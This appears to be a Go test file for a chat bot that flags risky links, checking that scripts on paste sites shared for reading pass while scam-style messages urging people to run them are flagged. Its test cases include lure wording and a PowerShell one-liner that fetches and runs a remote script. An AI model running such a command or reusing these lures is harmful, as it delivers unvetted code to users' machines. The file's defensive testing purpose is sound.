package bot_test

import "testing"

// TestScriptsPastedToBeRead: a script on a paste site, named by its
// language so the site colours it (hastebin.com/ujifoyexal.ps1,
// paste.rs/Xk3m.js), is a page a browser shows as text, and tech chat
// pastes its scripts there to be read: it was warned (.js, .jar, 0.51)
// or deleted (.ps1, .bat, .vbs, .cmd, 0.84) as a download. One a message
// asks to be saved, opened or run, one beside a lure's words, and one a
// pasted command fetches and runs are flagged as before.
func TestScriptsPastedToBeRead(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"https://hastebin.com/ujifoyexal.ps1", false},
		{"https://hastebin.com/ujifoyexal.js", false},
		{"my backup script https://paste.rs/Xk3m.bat fails on the robocopy line", false},
		{"here is the script that errors https://hastebin.skyra.pw/raw/ujifoyexal.vbs", false},
		{"logon script: https://pastebin.com/raw/Xk3m9PqZ.cmd", false},
		{"download the fix https://pastebin.com/raw/Xk3m9PqZ.bat and run it as admin", true},
		{"to claim your reward run https://hastebin.com/ujifoyexal.ps1", true},
		{"your pc is infected, download the cleaner https://paste.ee/r/AbCdE.vbs now", true},
		{"save https://controlc.com/4f2a9c1e.cmd to your desktop and double click it to fix the error", true},
		{"verify your account by running https://rentry.co/abc.ps1", true},
		{"urgent: security update required, get it here https://paste.rs/Xk3m.bat", true},
		{"powershell -c \"iwr https://hastebin.com/raw/abc.ps1 | iex\"", true},
		// not a paste site: a download as before
		{"https://cdn-files-share.top/ujifoyexal.ps1", true},
	})
}
